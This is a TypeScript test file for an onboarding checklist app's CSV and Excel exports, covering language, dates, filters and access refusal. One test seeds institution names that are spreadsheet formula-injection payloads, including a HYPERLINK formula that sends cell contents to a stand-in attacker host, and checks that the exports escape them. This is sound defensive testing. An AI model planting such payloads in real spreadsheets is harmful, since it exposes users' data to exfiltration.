import ExcelJS from "exceljs";
import { parse } from "csv-parse/sync";
import { createTranslator } from "next-intl";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import enChecklist from "../../../messages/en/checklist.json";
import nbChecklist from "../../../messages/nb/checklist.json";
import { seedInstitution } from "../../../prisma/seed/factories";
import { getCatalogue } from "../../onboarding";
import { ZOverviewFilterSchema } from "../../validation/checklist";
import { openFreshDatabase, testDatabaseKinds, type TestDatabase } from "../testing/test-databases";
import { exportLabels } from "./labels";
import { overviewTable, stepDetailTable } from "./tables";
import { toCsv, toXlsx } from "./write-table";

const kinds = await testDatabaseKinds();
const coordinator = { id: "c", email: "c@test.example", role: "COORDINATOR" as const, memberships: [] };
const labelsIn = (locale: "nb" | "en") => {
  const t = createTranslator({ locale, messages: { checklist: locale === "nb" ? nbChecklist : enChecklist }, namespace: "checklist" });
  return exportLabels(locale, (key, values) => t(key as never, values as never));
};
const nb = labelsIn("nb");
const en = labelsIn("en");
const noFilter = ZOverviewFilterSchema.parse({});

describe.each(kinds)("exports on %s", (kind) => {
  let t: TestDatabase;
  let ids: string[];
  beforeAll(async () => {
    t = await openFreshDatabase(kind);
    const a = await seedInstitution(t.prisma, { name: "Alfa; \"sitat\" Pensjon", targetProductionDate: new Date("2027-03-01T00:00:00Z") });
    const b = await seedInstitution(t.prisma, { name: "Beta Pensjon", supplierOrgnr: "999999999", supplierName: "Lev AS" });
    ids = [a.id, b.id];
    // 23:30 UTC on New Year's Eve is already 2027 in Oslo
    await t.prisma.institutionStep.create({ data: { institutionId: a.id, stepKey: "A-1", status: "DONE", updatedAt: new Date("2026-12-31T23:30:00Z") } });
    await t.prisma.institutionStep.create({ data: { institutionId: a.id, stepKey: "A-2", status: "IN_PROGRESS", dueDate: new Date("2026-12-15T00:00:00Z") } });
  });
  afterAll(async () => t?.close());

  it("writes the overview as CSV in the reader's language that parses back to the same cells", async () => {
    const table = await overviewTable({ db: t.prisma, actor: coordinator, today: "2026-11-26", filters: noFilter, labels: nb });
    expect(table.rows).toHaveLength(2);
    const csv = toCsv(table);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const parsed = parse(csv.slice(1), { delimiter: ";" }) as string[][];
    expect(parsed[0]).toEqual(table.headers);
    expect(parsed[0].slice(0, 5)).toEqual(["Org.nr.", "Navn", "Tredjepartsleverandør", "Fase", "Framdrift totalt (%)"]);
    const col = (name: string) => parsed[0].indexOf(name);
    const alfa = parsed.find((r) => r[1] === "Alfa; \"sitat\" Pensjon")!;
    expect(alfa[col("Fase")]).toBe("A – Forberedelse");
    expect(alfa[col("Venter på")]).toBe("Venter på pensjonsinnretningen");
    expect(alfa[col("Måldato produksjon")]).toBe("2027-03-01");
    expect(Number(alfa[col("Framdrift totalt (%)")])).toBeGreaterThan(0);
    // yes/no as words: "Nei" must not read as an empty cell
    expect(parsed.slice(1).map((r) => [r[1], r[col("Tredjepartsleverandør")]])).toEqual([["Alfa; \"sitat\" Pensjon", "Nei"], ["Beta Pensjon", "Ja"]]);
  });

  it("writes every step in English with statuses as words, dates in Oslo time and real date cells in XLSX", async () => {
    const table = await stepDetailTable({ db: t.prisma, actor: coordinator, today: "2026-11-26", filters: noFilter, labels: en });
    expect(table.rows).toHaveLength(2 * getCatalogue().steps.length);
    const h = (name: string) => table.headers.indexOf(name);
    expect(table.headers.slice(0, 3)).toEqual(["Org. no.", "Pension institution", "Step"]);
    const csv = parse(toCsv(table).slice(1), { delimiter: ";" }) as string[][];
    const a1 = csv.find((r) => r[h("Step")] === "A-1" && r[h("Pension institution")] === "Alfa; \"sitat\" Pensjon")!;
    expect(a1[h("Status")]).toBe("Done");
    expect(a1[h("Last changed")]).toBe("2027-01-01 00:30");
    const a2 = csv.find((r) => r[h("Step")] === "A-2" && r[h("Pension institution")] === "Alfa; \"sitat\" Pensjon")!;
    expect(a2[h("Status")]).toBe("In progress");
    expect(a2[h("Due date")]).toBe("2026-12-15");
    // the display state, as the checklist's tags: B-4 waits for B-2 ("Cannot start yet"; stored: not started)
    const b4 = csv.find((r) => r[h("Step")] === "B-4" && r[h("Pension institution")] === "Alfa; \"sitat\" Pensjon")!;
    expect(b4[h("Status")]).toBe("Cannot start yet");
    expect(a2[h("Evidence missing")]).not.toMatch(/certificates\./); // labels, not machine keys
    expect(a2[h("Evidence missing")]).toMatch(/certificates/i);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx(table)) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet("steg")!;
    expect(sheet.rowCount).toBe(table.rows.length + 1);
    expect(sheet.getRow(1).getCell(3).value).toBe("Step");
    const rowOf = (key: string) => table.rows.findIndex((r) => r[2] === key && r[1] === "Alfa; \"sitat\" Pensjon") + 2;
    const changed = sheet.getRow(rowOf("A-1")).getCell(h("Last changed") + 1);
    expect(changed.value).toBeInstanceOf(Date);
    expect((changed.value as Date).toISOString()).toBe("2027-01-01T00:30:00.000Z"); // Oslo's wall clock
    expect(changed.numFmt).toBe("yyyy-mm-dd hh:mm");
    const due = sheet.getRow(rowOf("A-2")).getCell(h("Due date") + 1);
    expect((due.value as Date).toISOString()).toBe("2026-12-15T00:00:00.000Z");
    expect(due.numFmt).toBe("yyyy-mm-dd");
    const b7 = table.rows.filter((r) => r[2] === "B-7").map((r) => [r[1], r[h("Applies")]]);
    expect(b7).toEqual([["Alfa; \"sitat\" Pensjon", false], ["Beta Pensjon", true]]);
  });

  // Institution names a spreadsheet would run as formulas: every prefix OWASP names.
  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klikk")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"];

  it("writes cells that would start a formula as text in CSV, and as plain strings in XLSX", async () => {
    // (in this test's database: a fresh PostgreSQL database would be the same one, reset under the other tests)
    for (const name of FORMULAS) await seedInstitution(t.prisma, { name });
    const escaped = (r: string[]) => r[1].startsWith("'");
    const overview = await overviewTable({ db: t.prisma, actor: coordinator, today: "2026-11-26", filters: ZOverviewFilterSchema.parse({}), labels: en });
    const parsed = parse(toCsv(overview).slice(1), { delimiter: ";" }) as string[][];
    expect(parsed.slice(1).filter(escaped).map((r) => r[1]).sort()).toEqual(FORMULAS.map((n) => `'${n}`).sort());
    // numbers stay numbers
    expect(parsed.slice(1).every((r) => /^\d+$/.test(r[overview.headers.indexOf("Overall progress (%)")]))).toBe(true);

    const steps = await stepDetailTable({ db: t.prisma, actor: coordinator, today: "2026-11-26", filters: ZOverviewFilterSchema.parse({}), labels: en });
    const stepCsv = parse(toCsv(steps).slice(1), { delimiter: ";" }) as string[][];
    expect(new Set(stepCsv.slice(1).filter(escaped).map((r) => r[1]))).toEqual(new Set(FORMULAS.map((n) => `'${n}`)));

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx(overview)) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet("oversikt")!;
    const cells = FORMULAS.map((n) => sheet.getRow(overview.rows.findIndex((r) => r[1] === n) + 2).getCell(2));
    expect(cells.map((c) => c.type)).toEqual(FORMULAS.map(() => ExcelJS.ValueType.String));
    // the text as it was (XML reads a carriage return back as a line feed)
    expect(cells.map((c) => c.value)).toEqual(FORMULAS.map((n) => n.replace(/\r/g, "\n")));
  });

  it("exports the steps of only the institutions the overview's filters show", async () => {
    const table = await stepDetailTable({ db: t.prisma, actor: coordinator, today: "2026-11-26", filters: ZOverviewFilterSchema.parse({ thirdParty: "1" }), labels: nb });
    expect(new Set(table.rows.map((r) => r[1]))).toEqual(new Set(["Beta Pensjon"]));
    const searched = await stepDetailTable({ db: t.prisma, actor: coordinator, today: "2026-11-26", filters: ZOverviewFilterSchema.parse({ q: "Alfa" }), labels: nb });
    expect(new Set(searched.rows.map((r) => r[1]))).toEqual(new Set(["Alfa; \"sitat\" Pensjon"]));
  });

  it("refuses institution users (not found) and logs the attempt", async () => {
    const member = { id: "m", email: "m@test.example", role: "INSTITUTION_USER" as const, memberships: [{ institutionId: ids[0], memberRole: "OWNER" as const }] };
    await expect(stepDetailTable({ db: t.prisma, actor: member, today: "2026-11-26", filters: noFilter, labels: nb })).rejects.toThrow("NOT_FOUND");
    await expect(overviewTable({ db: t.prisma, actor: member, today: "2026-11-26", filters: noFilter, labels: nb })).rejects.toThrow("NOT_FOUND");
    expect(await t.prisma.auditEvent.count({ where: { actor: member.email, action: "access.denied" } })).toBe(2);
  });
});
